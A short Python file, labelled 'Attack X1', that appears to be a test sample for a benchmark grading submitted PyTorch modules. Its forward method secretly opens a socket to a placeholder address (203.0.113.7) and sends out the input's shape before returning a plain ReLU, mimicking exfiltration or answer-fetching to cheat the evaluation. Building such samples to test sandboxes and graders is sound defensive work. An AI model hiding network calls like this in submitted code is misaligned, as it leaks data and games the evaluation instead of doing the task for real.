# Attack X1: send data out over the network (or fetch a precomputed answer).
import socket

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 80))
        s.sendall(b"shape=" + str(tuple(x.shape)).encode())
        s.close()
        return torch.clamp(x, min=0.0)
